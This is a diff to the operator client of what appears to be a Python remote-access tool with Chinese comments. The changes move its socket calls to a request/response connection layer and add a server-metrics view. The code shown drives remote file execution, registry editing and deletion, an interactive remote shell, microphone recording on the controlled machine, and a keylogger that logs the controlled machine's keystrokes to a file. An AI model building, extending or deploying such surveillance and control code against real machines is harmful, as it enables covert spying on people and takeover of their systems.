@@ -865,12 +1093,12 @@ class RemoteControlClient:
             
             # 发送文件执行请求
             msg = create_file_execute_message(filepath, args)
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
             
             print(f"{Colors.CYAN}正在执行文件...{Colors.RESET}")
             
             # 接收响应
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             
             if response and response['type'] == MessageType.FILE_EXECUTE_RESPONSE:
                 if response['data']['success']:
@@ -939,9 +1167,9 @@ class RemoteControlClient:
                 name = None
 
             msg = create_registry_query_message(hive, key_path, name)
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
 
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             if response and response['type'] == MessageType.REGISTRY_RESPONSE:
                 if response['data']['success']:
                     values = response['data'].get('values', {})
@@ -974,9 +1202,9 @@ class RemoteControlClient:
                 vtype = 'REG_SZ'
 
             msg = create_registry_set_message(hive, key_path, name, value, vtype)
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
 
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             if response and response['type'] == MessageType.REGISTRY_RESPONSE:
                 if response['data']['success']:
                     print(f"{Colors.GREEN}✓ 注册表设置成功{Colors.RESET}")
@@ -1000,9 +1228,9 @@ class RemoteControlClient:
                 name = None
 
             msg = create_registry_delete_message(hive, key_path, name)
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
 
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             if response and response['type'] == MessageType.REGISTRY_RESPONSE:
                 if response['data']['success']:
                     print(f"{Colors.GREEN}✓ 删除成功{Colors.RESET}")
@@ -1050,16 +1278,16 @@ class RemoteControlClient:
                     # 退出Shell模式
                     if command.lower() in ['exit', 'quit']:
                         msg = create_shell_exit_message()
-                        send_message(self.client_socket, msg)
+                        self.conn.send(msg)
                         print(f"{Colors.GREEN}✓ 已退出Shell模式{Colors.RESET}")
                         break
                     
                     # 发送Shell命令
                     msg = create_shell_message(command, current_dir)
-                    send_message(self.client_socket, msg)
+                    future = self.conn.request(msg)
                     
                     # 接收响应
-                    response = receive_message(self.client_socket)
+                    response = self.conn.wait(future, CONNECTION_TIMEOUT)
                     
                     if response and response['type'] == MessageType.SHELL_RESPONSE:
                         if response['data']['success']:
@@ -1113,10 +1341,10 @@ class RemoteControlClient:
 
             # 只请求 WAV 格式以避免依赖外部编码器
             msg = create_mic_record_message(duration=duration, samplerate=samplerate, channels=channels)
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
 
             print(f"{Colors.CYAN}正在请求服务器录音...{Colors.RESET}")
-            response = receive_message(self.client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
 
             if response and response['type'] == MessageType.MIC_RECORD_RESPONSE:
                 if response['data'].get('success'):
@@ -1125,7 +1353,7 @@ class RemoteControlClient:
                     size = response['data'].get('size', 0)
 
                     print(f"{Colors.CYAN}接收音频数据 ({format_file_size(size)})...{Colors.RESET}")
-                    audio_bytes = receive_binary_data(self.client_socket)
+                    audio_bytes = response.get('payload')
                     if audio_bytes:
                         save_path = os.path.join(DOWNLOAD_DIRECTORY, filename)
                         if write_file_binary(save_path, audio_bytes):
@@ -1259,12 +1487,12 @@ class RemoteControlClient:
             
             # 发送系统信息请求
             msg = create_system_info_message()
-            send_message(self.client_socket, msg)
+            future = self.conn.request(msg)
             
             print(f"{Colors.CYAN}正在获取系统信息...{Colors.RESET}")
             
             # 接收响应
-            response = receive_message(self. client_socket)
+            response = self.conn.wait(future, CONNECTION_TIMEOUT)
             
             if response and response['type'] == MessageType.SYSTEM_INFO_RESPONSE:
                 if response['data']['success']:
@@ -1288,6 +1516,51 @@ class RemoteControlClient:
         except Exception as e:
             print(f"{Colors.RED}✗ 系统信息请求失败: {e}{Colors.RESET}")
 
+    def request_metrics(self):
+        """请求服务器性能统计 (各处理函数的调用次数、耗时分位数与收发字节数)"""
+        try:
+            dump = input(f"{Colors.BOLD}是否同时保存到服务器统计文件? (y/N): {Colors.RESET}").strip().lower() == 'y'
+            
+            msg = create_metrics_message(dump)
+            response = self.conn.call(msg, CONNECTION_TIMEOUT)
+            
+            if not response or response['type'] != MessageType.METRICS_RESPONSE:
+                print(f"{Colors.RED}✗ 未收到性能统计{Colors.RESET}")
+                return
+            
+            data = response['data']
+            if not data['success']:
+                print(f"{Colors.RED}✗ 获取性能统计失败: {data.get('error', '未知错误')}{Colors.RESET}")
+                return
+            
+            print(f"\n{Colors.GREEN}✓ 服务器性能统计 (运行 {data['uptime']:.0f} 秒):{Colors.RESET}\n")
+            print(f"{Colors.BOLD}{'处理函数':<32}{'次数':>7}{'p50(ms)':>10}{'p95(ms)':>10}"
+                  f"{'p99(ms)':>10}{'接收':>12}{'发送':>12}{Colors.RESET}")
+            print(f"{'-'*93}")
+            for name, stats in data['handlers'].items():
+                print(f"{name:<32}{stats['calls']:>7}{stats['p50_ms']:>10.1f}{stats['p95_ms']:>10.1f}"
+                      f"{stats['p99_ms']:>10.1f}{format_file_size(stats['bytes_in']):>12}"
+                      f"{format_file_size(stats['bytes_out']):>12}")
+            
+            sessions = data.get('sessions', [])
+            if sessions:
+                print(f"\n{Colors.BOLD}活动会话: {len(sessions)}{Colors.RESET}")
+                for session in sessions:
+                    rtt = session.get('rtt_ms')
+                    print(f"  {session['address']:<16} 时长 {session['duration']:.0f}s  "
+                          f"发送 {format_file_size(session['send_rate'])}/s  "
+                          f"接收 {format_file_size(session['receive_rate'])}/s  "
+                          f"RTT {'-' if rtt is None else f'{rtt:.1f}ms'}")
+            
+            if self.heartbeat and self.heartbeat.rtt is not None:
+                print(f"\n  本端测得往返时延: {self.heartbeat.rtt * 1000:.1f}ms")
+            
+            if data.get('file'):
+                print(f"\n  统计文件: {data['file']}")
+        
+        except Exception as e:
+            print(f"{Colors.RED}✗ 性能统计请求失败: {e}{Colors.RESET}")
+    
     def keyboard_monitor(self):
         """键盘监控功能 - 记录被控端的按键到文件"""
         try:
@@ -1308,7 +1581,7 @@ class RemoteControlClient:
             
             # 发送开始监控请求
             msg = create_keyboard_monitor_start_message()
-            send_message(self.client_socket, msg)
+            self.conn.send(msg)
             
             print(f"{Colors.GREEN}✓ 键盘监控已启动{Colors.RESET}")
             print(f"{Colors.CYAN}正在接收按键数据...{Colors.RESET}\n")
@@ -1324,43 +1597,39 @@ class RemoteControlClient:
                 try:
                     # 持续接收键盘事件
                     while True:
-                        # 设置较短的超时以便及时响应 Ctrl+C
-                        self.client_socket.settimeout(0.5)
+                        # 使用较短的超时以便及时响应 Ctrl+C
+                        response = self.conn.receive(Channel.KEYBOARD, 0.5)
+                        
+                        if response is None:
+                            if self.conn.closed:
+                                break
+                            continue
                         
-                        try:
-                            response = receive_message(self.client_socket)
+                        if response['type'] == MessageType.KEYBOARD_EVENT:
+                            key = response['data'].get('key', '')
+                            event_type = response['data'].get('event_type', '')
+                            timestamp = response['data'].get('timestamp', '')
                             
-                            if response and response['type'] == MessageType.KEYBOARD_EVENT:
-                                key = response['data'].get('key', '')
-                                event_type = response['data'].get('event_type', '')
-                                timestamp = response['data'].get('timestamp', '')
+                            # 只记录按键按下事件
+                            if event_type == 'press':
+                                # 格式化按键名称
+                                key_display = key.replace('Key.', '').replace("'", "")
                                 
-                                # 只记录按键按下事件
-                                if event_type == 'press':
-                                    # 格式化按键名称
-                                    key_display = key.replace('Key.', '').replace("'", "")
-                                    
-                                    # 写入日志
-                                    log_entry = f"[{timestamp}] {key_display}\n"
-                                    log_file.write(log_entry)
-                                    log_file.flush()
-                                    
-                                    # 在控制台显示
-                                    print(f"{Colors.GREEN}[{timestamp[-8:]}] {key_display}{Colors.RESET}")
-                        
-                        except socket.timeout:
-                            continue
-                
+                                # 写入日志
+                                log_entry = f"[{timestamp}] {key_display}\n"
+                                log_file.write(log_entry)
+                                log_file.flush()
+                                
+                                # 在控制台显示
+                                print(f"{Colors.GREEN}[{timestamp[-8:]}] {key_display}{Colors.RESET}")
+
                 except KeyboardInterrupt:
                     print(f"\n{Colors.YELLOW}停止监控...{Colors.RESET}")
                 
                 finally:
-                    # 恢复原始超时
-                    self.client_socket.settimeout(CONNECTION_TIMEOUT)
-                    
                     # 发送停止监控请求
                     msg = create_keyboard_monitor_stop_message()
-                    send_message(self.client_socket, msg)
+                    self.conn.send(msg)
                     
                     # 写入结束时间
                     log_file.write(f"\n{'='*50}\n")